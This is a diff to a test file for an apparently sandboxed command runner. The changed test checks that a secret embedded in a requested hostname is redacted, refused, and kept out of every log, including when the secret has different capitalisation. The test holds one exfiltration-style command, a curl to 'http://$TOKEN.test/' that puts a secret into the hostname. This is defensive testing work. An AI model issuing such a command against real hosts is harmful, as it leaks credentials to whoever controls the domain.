@@ -118,21 +118,24 @@ describe('a host that no entry lists', () => {
     expect((await scene.server.call('GET', `/conversations/${id}`)).body.network).toEqual(ASKING)
   })
 
-  test('whose name a command made of a secret is shown, stored and remembered nowhere', async () => {
-    const secrets = { TOKEN: 'value-of-token' }
-    const id = await scene.create({ network: { ...ASKING, log: true }, secrets })
-    const answer = scene.run(id, 'curl -sS -m 90 http://$TOKEN.test/')
-    const { request_id, payload } = await waiting(id)
-    expect(payload).toEqual({ host: '<secret:TOKEN>.test', port: 80 })
-    const refusal = await decide(id, request_id, { behavior: 'deny', remember: true })
-    expect(refusal).toMatchObject({ status: 400, body: { error: 'invalid_request' } })
-    expect((await decide(id, request_id, { behavior: 'deny' })).status).toBe(200)
-    expect(await answer).not.toContain(secrets.TOKEN)
-    await expect.poll(() => scene.events(id, 'types=NetworkAccess')).toHaveLength(1)
-    expect(JSON.stringify(await scene.events(id, 'types=RequestOpened,RequestAnswered,NetworkAccess'))).not.toContain(
-      secrets.TOKEN,
-    )
-  })
+  test.each(['value-of-token', 'Value-Of-Token'])(
+    'whose name a command made of the secret %s is shown nowhere',
+    async (secret) => {
+      const secrets = { TOKEN: secret }
+      const id = await scene.create({ network: { ...ASKING, log: true }, secrets })
+      const answer = scene.run(id, 'curl -sS -m 90 http://$TOKEN.test/')
+      const { request_id, payload } = await waiting(id)
+      expect(payload).toEqual({ host: '<secret:TOKEN>.test', port: 80 })
+      const refusal = await decide(id, request_id, { behavior: 'deny', remember: true })
+      expect(refusal).toMatchObject({ status: 400, body: { error: 'invalid_request' } })
+      expect((await decide(id, request_id, { behavior: 'deny' })).status).toBe(200)
+      expect(await answer).toContain('refused <secret:TOKEN>.test:80')
+      await expect.poll(() => scene.events(id, 'types=NetworkAccess')).toHaveLength(1)
+      const events = await scene.events(id, 'types=RequestOpened,RequestAnswered,NetworkAccess,CommandResult')
+      for (const text of [await answer, JSON.stringify(events)])
+        expect(text.toLowerCase()).not.toContain('value-of-token')
+    },
+  )
 
   test('is decided by a change of the policy', async () => {
     const id = await scene.create({ network: ASKING })
